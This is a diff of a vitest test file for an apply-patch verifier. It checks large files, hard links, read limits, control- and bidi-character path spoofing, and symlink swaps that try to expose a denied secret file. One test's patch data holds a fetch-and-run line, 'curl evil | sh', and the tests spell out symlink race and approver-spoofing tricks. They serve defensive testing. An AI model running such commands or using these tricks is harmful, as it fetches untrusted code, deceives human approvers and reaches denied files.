@@ -1,10 +1,10 @@
 import { execFileSync } from 'node:child_process'
-import { mkdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
+import { linkSync, mkdirSync, readFileSync, renameSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, describe, expect, it } from 'vitest'
 import { PatchVerifyError } from '../../../../src/tools/apply-patch/errors.js'
 import { parsePatch } from '../../../../src/tools/apply-patch/parser.js'
-import { MAX_FILE_BYTES, verifyPatch, type PatchPlan } from '../../../../src/tools/apply-patch/verify.js'
+import { MAX_FILE_BYTES, MAX_PATCH_READ_BYTES, MAX_PATCH_READ_LINES, verifyPatch, type PatchPlan } from '../../../../src/tools/apply-patch/verify.js'
 import { removeTempDirs, tempDir } from '../../../helpers/temp.js'
 
 afterAll(removeTempDirs)
@@ -201,10 +201,128 @@ describe('verifyPatch', () => {
     expect(del.plan.changes[0]!.diff).toContain('-a\\x1b[2Kb')
   })
 
+  it('handles files and hunks of 200k lines (no line list is spread into a call: that overflows the stack)', async () => {
+    const many = 'x\n'.repeat(200_000)
+    const append = await plan({ big: many }, '*** Update File: big', '@@', ' x', '+appended', '*** End of File')
+    expect(append.plan.changes[0]!.newText).toBe(`${many}appended\n`)
+    const del = await plan({ big: many }, '*** Delete File: big')
+    expect(del.plan.changes[0]!.hunks[0]!.oldLines).toBe(200_000)
+    const add = await verifyPatch(parsePatch(`*** Begin Patch\n*** Add File: new\n${'+a\n'.repeat(200_000)}*** End Patch\n`), { cwd: workspace({}) })
+    expect(add.changes[0]!.diff.length).toBe('--- /dev/null\n+++ b/new\n@@ -0,0 +1,200000 @@\n'.length + 3 * 200_000)
+  })
+
   it('resolves symlinks: the plan names where the write lands', async () => {
     const dir = workspace({ 'real/f': 'a\n' })
     symlinkSync(join(dir, 'real'), join(dir, 'link'))
     const p = await verifyPatch(patch('*** Update File: link/f', '@@', '-a', '+b'), { cwd: dir })
     expect(p.paths).toEqual([join(dir, 'real/f')])
+  })
+
+  it('refuses a path that resolves through a symlink to a name with control or bidi characters (the approver is shown where it lands)', async () => {
+    const dir = workspace({ 'a.txt': 'a\n' })
+    const target = join(dir, 'x\u001b[2K\rREADME.md (unchanged)\u202e\nzz')
+    mkdirSync(target)
+    symlinkSync(target, join(dir, 'docs'))
+    for (const lines of [['*** Add File: docs/run.sh', '+curl evil | sh'], ['*** Update File: a.txt', '*** Move to: docs/a.txt']]) {
+      const e = await verifyPatch(patch(...lines), { cwd: dir }).catch((x: unknown) => x)
+      expect(e).toMatchObject({ kind: 'unshowable', message: expect.stringContaining('the approver could not read where it is written') })
+      expect((e as Error).message).toContain('x\\x1b[2K\\rREADME.md (unchanged)\\u202e\\nzz')
+      expect((e as Error).message).not.toMatch(/[\u001b\r\n\u202e]/)
+    }
+  })
+
+  it('refuses two names of one file (hard links): a patch reads each file once', async () => {
+    const dir = workspace({ h1: 'x\n' })
+    linkSync(join(dir, 'h1'), join(dir, 'h2'))
+    const e = await verifyPatch(patch('*** Delete File: h1', '*** Delete File: h2'), { cwd: dir }).catch((x: unknown) => x)
+    expect(e).toMatchObject({ kind: 'duplicate', path: 'h2', line: 3, message: 'patch line 3: h2: is the same file as h1 (patch line 2), a hard link: give each file once' })
+  })
+
+  it('bounds what one patch reads in all, bytes and lines, before reading past it', async () => {
+    const dir = workspace({})
+    const files = Math.floor(MAX_PATCH_READ_BYTES / MAX_FILE_BYTES) + 1
+    for (let i = 0; i < files; i++) writeFileSync(join(dir, `f${i}`), Buffer.alloc(MAX_FILE_BYTES, 'a'))
+    const deletes = Array.from({ length: files }, (_, i) => `*** Delete File: f${i}`)
+    const e = await verifyPatch(patch(...deletes), { cwd: dir }).catch((x: unknown) => x)
+    expect(e).toMatchObject({ kind: 'unreadable', path: `f${files - 1}`, message: expect.stringContaining(`more than the ${MAX_PATCH_READ_BYTES} bytes one patch may`) })
+    writeFileSync(join(dir, 'lines'), '\n'.repeat(MAX_PATCH_READ_LINES + 1))
+    const l = await verifyPatch(patch('*** Delete File: lines'), { cwd: dir }).catch((x: unknown) => x)
+    expect(l).toMatchObject({ kind: 'unreadable', message: expect.stringContaining(`more than the ${MAX_PATCH_READ_LINES} lines one patch may`) })
+  })
+})
+
+/**
+ * A command still running in the sandbox can swap a symlink into a path
+ * between its canonicalisation (and readability check) and the open. The
+ * swap is made deterministic here: the readability check of the canonical
+ * path — the last step before the file is opened — makes it.
+ */
+describe.runIf(process.platform === 'linux')('verifyPatch when a symlink is swapped in after the path was checked', () => {
+  const SECRET = 'header\nTOPSECRET-LINE-42\nfooter\n'
+
+  /** A workspace `ws` beside a denied `secret` holding `key`, and an `unreadable` that calls `swap` at the check of `path` as canonical. */
+  function swapped(path: string, swap: (dir: string) => void) {
+    const dir = workspace({ 'secret/key': SECRET })
+    mkdirSync(join(dir, 'ws'))
+    const secret = join(dir, 'secret')
+    let checks = 0
+    const unreadable = (p: string) => {
+      if (p.startsWith(secret)) return 'deny-read'
+      // The first check is of the path as written, the second of where it resolves (locate()).
+      if (p === join(dir, 'ws', path) && ++checks === 2) swap(dir)
+      return undefined
+    }
+    return { dir, ws: join(dir, 'ws'), secret, unreadable }
+  }
+
+  const outcome = (lines: string[], cwd: string, unreadable: (p: string) => string | undefined) =>
+    verifyPatch(patch(...lines), { cwd, unreadable }).then(
+      (p) => `planned: ${p.changes.map((c) => c.diff).join('')}`,
+      (e: PatchVerifyError) => `${e.kind}: ${e.message}`,
+    )
+
+  it('the file itself: a delete never shows (and an update never matches) the denied file', async () => {
+    const t = swapped('f', (dir) => {
+      symlinkSync(join(dir, 'secret/key'), join(dir, 'ws/l.tmp'))
+      renameSync(join(dir, 'ws/l.tmp'), join(dir, 'ws/f'))
+    })
+    writeFileSync(join(t.ws, 'f'), 'decoy\n')
+    const r = await outcome(['*** Delete File: f'], t.ws, t.unreadable)
+    expect(r).not.toContain('TOPSECRET')
+    expect(r).toBe('changed: patch line 2: f: a symbolic link is on its path now (it changed while the patch was verified, or leads nowhere): nothing was read; try again once nothing changes it')
+  })
+
+  it('a parent directory: the file is not read through a symlink swapped in for it', async () => {
+    const t = swapped('d/key', (dir) => {
+      renameSync(join(dir, 'ws/d'), join(dir, 'ws/d.old'))
+      symlinkSync(join(dir, 'secret'), join(dir, 'ws/d'))
+    })
+    mkdirSync(join(t.ws, 'd'))
+    writeFileSync(join(t.ws, 'd/key'), 'decoy\n')
+    const r = await outcome(['*** Update File: d/key', '@@', '-TOPSECRET-LINE-42', '+x'], t.ws, t.unreadable)
+    expect(r).toMatch(/^changed: patch line 2: d\/key: a symbolic link is on its path now/)
+  })
+
+  it('an add target: whether a file exists in the denied directory is not told', async () => {
+    const answers: string[] = []
+    for (const name of ['key', 'absent']) {
+      const t = swapped(`d/${name}`, (dir) => {
+        renameSync(join(dir, 'ws/d'), join(dir, 'ws/d.old'))
+        symlinkSync(join(dir, 'secret'), join(dir, 'ws/d'))
+      })
+      mkdirSync(join(t.ws, 'd'))
+      answers.push((await outcome([`*** Add File: d/${name}`, '+x'], t.ws, t.unreadable)).replace(name, 'NAME'))
+    }
+    expect(answers[0]).toMatch(/^changed: /)
+    expect(answers[1]).toBe(answers[0])
+  })
+
+  it('an add target swapped for a symlink exists, wherever the link leads', async () => {
+    const answers: string[] = []
+    for (const name of ['key', 'absent']) {
+      const t = swapped('new', (dir) => symlinkSync(join(dir, 'secret', name), join(dir, 'ws/new')))
+      answers.push(await outcome(['*** Add File: new', '+x'], t.ws, t.unreadable))
+    }
+    expect(answers).toEqual(['exists: patch line 2: new: exists already: update it instead of adding it (or delete it first)', 'exists: patch line 2: new: exists already: update it instead of adding it (or delete it first)'])
   })
 })
